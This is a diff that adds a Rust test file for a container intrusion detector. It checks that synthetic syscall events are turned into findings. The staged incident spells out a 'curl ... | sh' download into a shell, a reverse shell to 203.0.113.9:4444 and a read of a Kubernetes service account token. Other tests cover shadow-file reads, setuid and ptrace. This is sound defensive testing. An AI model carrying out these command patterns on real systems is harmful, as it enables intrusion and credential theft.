@@ -1,0 +1,228 @@
+use afterimage_format::{FieldTag, OwnedEvent, layout::exec};
+
+use super::*;
+use crate::testing::{Build, call, exec as run, exit, fork, task};
+
+const BOX: ContainerUid = ContainerUid(7);
+const CWD: u64 = 0xffff_ff9c;
+
+fn story(events: &[OwnedEvent]) -> Vec<Finding> {
+    let (mut world, mut story) = (World::new(), Story::new());
+    let mut out = Vec::new();
+    for event in events {
+        event.with(|e| {
+            world.apply(BOX, e);
+            out.extend(story.apply(&world, BOX, e));
+        });
+    }
+    out
+}
+
+fn lines(events: &[OwnedEvent]) -> Vec<String> {
+    story(events).iter().map(|f| format!("{} {}: {}", f.severity.as_str(), f.title, f.detail)).collect()
+}
+
+fn write_file(time: u64, pid: u32, fd: u64, path: &str, bytes: i64) -> [OwnedEvent; 3] {
+    [
+        call(time, pid, "openat", &[CWD, 0, 0o1101, 0o600], fd.cast_signed()).with_kpath(path),
+        call(time + 1, pid, "write", &[fd, 0, 0], bytes),
+        call(time + 2, pid, "close", &[fd], 0),
+    ]
+}
+
+/// The staged incident of the design, event by event.
+fn incident() -> Vec<OwnedEvent> {
+    let mut events = vec![
+        run(10, 1, "/usr/bin/python3", &["python3", "etl.py"]).with_field(FieldTag::COMM, b"python3"),
+        fork(20, 1, 2),
+        run(21, 2, "/bin/sh", &["sh", "-c", "curl -s http://203.0.113.9/x | sh"])
+            .with_field(FieldTag::COMM, b"sh"),
+        fork(30, 2, 3),
+        run(31, 3, "/usr/bin/curl", &["curl", "-o", "/tmp/.x"]).with_field(FieldTag::COMM, b"curl"),
+        call(32, 3, "socket", &[2, 1, 0], 5),
+        call(33, 3, "connect", &[5, 0, 16], 0).with_address(FieldTag::SOCKADDR, "203.0.113.9:80"),
+    ];
+    events.extend(write_file(40, 3, 6, "/tmp/.x", 48_128));
+    events.extend([
+        exit(45, 3, 0),
+        call(50, 2, "fchmodat", &[CWD, 0, 0o755], 0).with_path("/tmp/.x"),
+        fork(60, 2, 4),
+        run(61, 4, "/tmp/.x", &["/tmp/.x", "-q"])
+            .with_field(FieldTag::COMM, b".x")
+            .with_number(exec::EXE_FLAGS, 1),
+        call(70, 4, "socket", &[2, 1, 0], 4),
+        call(71, 4, "connect", &[4, 0, 16], 0).with_address(FieldTag::SOCKADDR, "203.0.113.9:4444"),
+        fork(80, 4, 5),
+        call(81, 5, "dup2", &[4, 0], 0),
+        call(82, 5, "dup2", &[4, 1], 1),
+        call(83, 5, "dup2", &[4, 2], 2),
+        run(84, 5, "/bin/sh", &["sh", "-i"]).with_field(FieldTag::COMM, b"sh"),
+        fork(90, 5, 6),
+        run(91, 6, "/bin/cat", &["cat", "token"]).with_field(FieldTag::COMM, b"cat"),
+        call(92, 6, "openat", &[CWD, 0, 0, 0], 3)
+            .with_kpath("/run/secrets/kubernetes.io/serviceaccount/token"),
+        fork(100, 5, 7),
+        run(101, 7, "/bin/rm", &["rm", "-f", "/tmp/.x"]).with_field(FieldTag::COMM, b"rm"),
+        call(102, 7, "unlinkat", &[CWD, 0, 0], 0).with_path("/tmp/.x"),
+    ]);
+    events
+}
+
+#[test]
+fn the_staged_incident_is_told_from_download_to_clean_up() {
+    assert_eq!(
+        lines(&incident()),
+        [
+            "info program executed: /usr/bin/python3 etl.py",
+            "info program executed: /bin/sh -c \"curl -s http://203.0.113.9/x | sh\"",
+            "info program executed: /usr/bin/curl -o /tmp/.x",
+            "notice connection made: tcp 203.0.113.9:80 by 3 curl",
+            "notice file downloaded: /tmp/.x, 48128 B, by 3 curl",
+            "warning file made executable: /tmp/.x by 2 sh",
+            "critical written, then executed: /tmp/.x -q [upper layer]: new file, 48128 B written by 3 curl",
+            "critical connection to an unusual port: tcp 203.0.113.9:4444 by 4 .x",
+            "critical reverse shell: /bin/sh -i: standard input and output are tcp 203.0.113.9:4444",
+            "info command on a connection: /bin/cat token",
+            "critical service account token read: /run/secrets/kubernetes.io/serviceaccount/token by 6 cat",
+            "info command on a connection: /bin/rm -f /tmp/.x",
+            "critical executed program deleted: /tmp/.x by 7 rm",
+        ]
+    );
+    let told = story(&incident());
+    let shell = told.iter().find(|f| f.title == "reverse shell").unwrap();
+    assert_eq!(
+        (shell.time, shell.task, shell.attack, shell.code),
+        (BootNanos(84), task(5), "T1059.004", EventCode::EXEC)
+    );
+}
+
+#[test]
+fn set_up_and_host_are_no_part_of_the_story() {
+    let mut setup =
+        run(10, 1, "/proc/self/exe", &["runc", "init"]).with_number(exec::EXE_FLAGS, exec::EXE_MEMFD);
+    setup.flags = EventFlags::SETUP;
+    assert!(story(&[setup]).is_empty());
+    let (mut world, mut story) = (World::new(), Story::new());
+    run(10, 1, "/bin/sh", &["sh"]).with(|e| {
+        world.apply(ContainerUid::HOST, e);
+        assert_eq!(story.apply(&world, ContainerUid::HOST, e), None);
+    });
+}
+
+#[test]
+fn ordinary_work_is_told_without_alarm() {
+    let mut events = vec![
+        run(10, 1, "/usr/bin/gcc", &["gcc", "-c", "a.c"]),
+        call(11, 1, "openat", &[CWD, 0, 0, 0], 3).with_kpath("/etc/passwd"),
+        call(12, 1, "openat", &[CWD, 0, 0, 0], -2).with_path("/etc/shadow"),
+        call(13, 1, "socket", &[2, 2, 0], 4),
+        call(14, 1, "connect", &[4, 0, 16], 0).with_address(FieldTag::SOCKADDR, "8.8.8.8:53"),
+        call(15, 1, "prctl", &[15, 0], 0).with_field(FieldTag::DATA, b"worker-1\0"),
+        call(16, 1, "clone", &[0x11], 2),
+    ];
+    events.extend(write_file(20, 1, 5, "/src/a.o", 100));
+    let worst = story(&events).iter().map(|f| f.severity).max();
+    assert_eq!(worst, Some(Severity::Info));
+}
+
+#[test]
+fn images_from_memory_and_names_of_kernel_threads_are_seen() {
+    let memfd = run(10, 1, "/memfd:x", &["[kworker/u8:3]"])
+        .with_number(exec::EXE_FLAGS, exec::EXE_MEMFD | exec::EXE_UNLINKED);
+    assert_eq!(
+        lines(&[memfd]),
+        ["critical program executed from memory: /memfd:x [memfd, deleted, argv0 [kworker/u8:3]]"]
+    );
+    let disguised = run(10, 1, "/usr/bin/x", &["[kthreadd]"]);
+    assert_eq!(
+        lines(&[disguised]),
+        ["warning program named like a kernel thread: /usr/bin/x calls itself [kthreadd]"]
+    );
+}
+
+#[test]
+fn a_download_piped_into_a_shell_is_seen_whichever_starts_last() {
+    let pipe = |first: OwnedEvent, second: OwnedEvent| {
+        vec![
+            run(10, 1, "/usr/bin/python3", &["python3"]),
+            call(20, 1, "pipe", &[0], 0).with_fds([3, 4]),
+            fork(21, 1, 2),
+            fork(22, 1, 3),
+            call(23, 2, "dup2", &[4, 1], 1),
+            call(24, 3, "dup2", &[3, 0], 0),
+            first,
+            second,
+        ]
+    };
+    let curl = || run(30, 2, "/usr/bin/curl", &["curl", "-s", "http://x"]);
+    let shell = || run(31, 3, "/bin/sh", &["sh"]);
+    for events in [pipe(curl(), shell()), pipe(shell(), curl())] {
+        let told = lines(&events);
+        assert!(
+            told.iter()
+                .any(|l| l
+                    .starts_with("warning download piped into a shell: /usr/bin/curl -s http://x | /bin/sh")),
+            "{told:?}"
+        );
+    }
+}
+
+#[test]
+fn attempts_that_were_refused_are_told_as_such() {
+    let told = lines(&[
+        run(10, 1, "/bin/x", &["x"]),
+        call(11, 1, "openat", &[CWD, 0, 0, 0], -13).with_path("/etc/shadow"),
+        call(12, 1, "mount", &[0, 0, 0, 0, 0], -1).with_path("/dev/sda").with_field(FieldTag::PATH2, b"/mnt"),
+        call(13, 1, "unshare", &[0x1000_0000], -1),
+        call(14, 1, "bpf", &[5, 0, 128], -1),
+        call(15, 1, "bpf", &[5, 0, 128], -1),
+    ]);
+    assert_eq!(
+        told[1..],
+        [
+            "notice password hashes read: /etc/shadow by 1 x (refused: EACCES)",
+            "notice file system mounted: /dev/sda on /mnt by 1 x (refused: EPERM)",
+            "notice namespaces made: CLONE_NEWUSER by 1 x (refused: EPERM)",
+            "notice eBPF program loaded: BPF_PROG_LOAD by 1 x (refused: EPERM)",
+        ]
+    );
+}
+
+#[test]
+fn rights_gained_are_seen() {
+    let told = lines(&[
+        run(10, 1, "/bin/x", &["x"]).with_number(exec::UID, 1000).with_number(exec::EUID, 1000),
+        call(11, 1, "setuid", &[0], 0),
+        run(12, 2, "/usr/bin/su", &["su"]).with_number(exec::UID, 1000).with_number(exec::EUID, 0),
+        call(13, 2, "chmod", &[0, 0o4755], 0).with_path("/tmp/sh"),
+        call(14, 2, "ptrace", &[16, 77, 0, 0], 0),
+        call(15, 2, "ptrace", &[0, 0, 0, 0], 0),
+    ]);
+    assert_eq!(
+        told[1..],
+        [
+            "warning user became root: 1 x",
+            "warning set-user-id root program executed: /usr/bin/su",
+            "critical set-user-id program made: /tmp/sh by 2 su",
+            "warning other process taken over: PTRACE_ATTACH of 77 by 2 su",
+        ]
+    );
+}
+
+#[test]
+fn hostile_names_are_escaped_and_a_flood_is_bounded() {
+    let told = lines(&[run(10, 1, "/tmp/\x1b[2J\u{202e}", &["x"])]);
+    assert_eq!(told, [r"warning program in a scratch directory executed: /tmp/\x1b[2J\u{202e} [argv0 x]"]);
+    let (mut world, mut story) = (World::new(), Story::new());
+    let mut told = 0;
+    for n in 0..12_000_u64 {
+        let event = call(n, 1, "connect", &[3, 0, 16], 0)
+            .with_address(FieldTag::SOCKADDR, &format!("10.{}.{}.1:80", n / 250, n % 250));
+        event.with(|e| {
+            world.apply(BOX, e);
+            told += usize::from(story.apply(&world, BOX, e).is_some());
+        });
+    }
+    assert_eq!(told, MOST_FINDINGS);
+    assert_eq!(story.dropped(BOX), 2000);
+}
